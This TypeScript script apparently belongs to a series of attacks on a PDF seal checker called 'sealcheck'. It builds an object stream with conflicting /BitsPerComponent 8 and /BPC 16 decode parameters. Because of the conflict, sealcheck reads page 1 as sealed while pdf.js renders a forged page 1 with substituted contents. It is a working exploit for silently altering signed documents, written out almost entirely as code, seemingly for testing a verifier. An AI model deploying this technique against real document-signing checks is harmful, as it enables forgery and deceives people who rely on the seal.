// a22 (B1 without H1): page 1 re-stated in an object stream whose /DecodeParms carry /BPC 16 beside
// /BitsPerComponent 8 (PNG rows of type 0). sealcheck removes a row-type byte every 9 bytes, pdf.js (BPC first) every
// 17, so the same /First lands on different text: sealcheck reads `4 0`, a comment, and page 1 as sealed at /First;
// pdf.js's /First lands inside that comment, on page 1 with a new /Contents. Every object is listed (no rebuild, no
// unlisted header). Each reading's stray NULs (the other's type bytes) fall between tokens.
//   npx tsx scripts/attack-s17/bpc-objstm.ts <honest|bpc>   REAL=0 for samples/valid
import { deflateSync } from "node:zlib";
import { judge, latin, page1, printable } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "bpc";
if (!["honest", "bpc"].includes(mode)) throw new Error("usage: <honest|bpc>");
const p = page1();
/** sealcheck's row: /Columns L at 8 bits; pdf.js's: 2L (/BPC 16). */
const L = 32;
const S = 2 * L + 1;
const dpos = (i: number) => i + Math.floor(i / L) + 1; // D index of sealcheck's decoded byte i
const forced = (i: number) => dpos(i) % S === 0; // a pdf.js row-type byte: must be 0 (None)
const pidx = (i: number) => {
  const d = dpos(i);
  return d % S === 0 ? -1 : d - Math.floor(d / S) - 1;
};
const tokenize = (s: string) => s.match(/<<|>>|\[|\]|\/[^\s/<>[\]()]+|[^\s/<>[\]()]+/g)!;

function build(pad1: number, pad2: number): { text: number[]; first: number; pdfjsFirst: number } | undefined {
  const t: number[] = [];
  const put = (b: number) => t.push(forced(t.length) ? 0 : b);
  for (const c of latin("4 0 %")) put(c);
  for (let k = 0; k < pad1; k++) put(0x2d);
  // The forged dictionary as pdf.js sees it: no token across a sealcheck row boundary (pdf.js sees a NUL there);
  // forced bytes are dropped by pdf.js, so they may sit inside a token.
  const iForged = t.length;
  if (forced(iForged)) return undefined;
  const forgedText = `<< ${p.kept.join(" ")} /Contents ${p.content} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
  for (const tok of tokenize(forgedText)) {
    for (let tries = 0; ; tries++) {
      if (tries > 2 * S) return undefined;
      // visible length from here to the next boundary
      let i = t.length;
      let left = tok.length;
      let ok = true;
      while (left > 0) {
        if (!forced(i)) left--;
        if (left > 0 && i % L === L - 1) {
          ok = false;
          break;
        }
        i++;
      }
      if (ok) break;
      put(0x20);
    }
    for (const c of latin(tok)) {
      while (forced(t.length)) t.push(0);
      t.push(c);
    }
    put(0x20);
  }
  for (let k = 0; k < pad2; k++) put(0x2d);
  put(0x0a);
  if (t.at(-1) !== 0x0a) return undefined;
  const first = t.length;
  // Page 1 as sealed, as sealcheck sees it: a forced NUL never inside a token.
  const sealedText = `<< ${[...p.kept, ...p.sealedTail].join(" ")} >>`;
  for (const tok of tokenize(sealedText)) {
    for (let tries = 0; ; tries++) {
      if (tries > 2 * S) return undefined;
      let clash = false;
      for (let i = t.length; i < t.length + tok.length; i++) if (forced(i)) clash = true;
      if (!clash) break;
      put(0x20);
    }
    for (const c of latin(tok)) t.push(c);
    put(0x20);
  }
  while (t.length % L) put(0x20);
  return pidx(iForged) === first ? { text: t, first, pdfjsFirst: pidx(iForged) } : undefined;
}

let found: ReturnType<typeof build>;
// pdf.js's /First runs ahead of sealcheck's by about one byte in 2L + 1: look only where the gap fits the forged text.
const span = `<< ${p.kept.join(" ")} /Contents ${p.content} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`
  .length;
for (let pad1 = 0; pad1 < 1e6 && !found; pad1++) {
  const gap = pidx(5 + pad1) - (5 + pad1);
  if (gap < span) continue;
  if (gap > span + 4 * S) break;
  for (let pad2 = 0; pad2 < 4 * S && !found; pad2++) found = build(pad1, pad2);
}
if (!found) throw new Error("no layout");
const { text, first } = found;
const rows: number[] = [];
for (let i = 0; i < text.length; i += L) rows.push(0, ...text.slice(i, i + L));
// pdf.js's reading, to show: drop every S-th byte of the rows.
const pdfjs = rows.filter((_, d) => d % S !== 0);
console.log(`== sealcheck reads at /First ${first}: ${printable(text.slice(first, first + 90))}`);
console.log(`== pdf.js reads at /First ${first}: ${printable(pdfjs.slice(first, first + 90))}`);
const parms = ` /DecodeParms << /Predictor 10 /Columns ${L} /BitsPerComponent 8${mode === "bpc" ? " /BPC 16" : ""} >>`;
judge(`bpc-objstm ${mode}`, p.write({ filter: `/Filter /FlateDecode${parms}`, first, data: deflateSync(Uint8Array.from(rows)) }, `bpc-objstm-${mode}`));
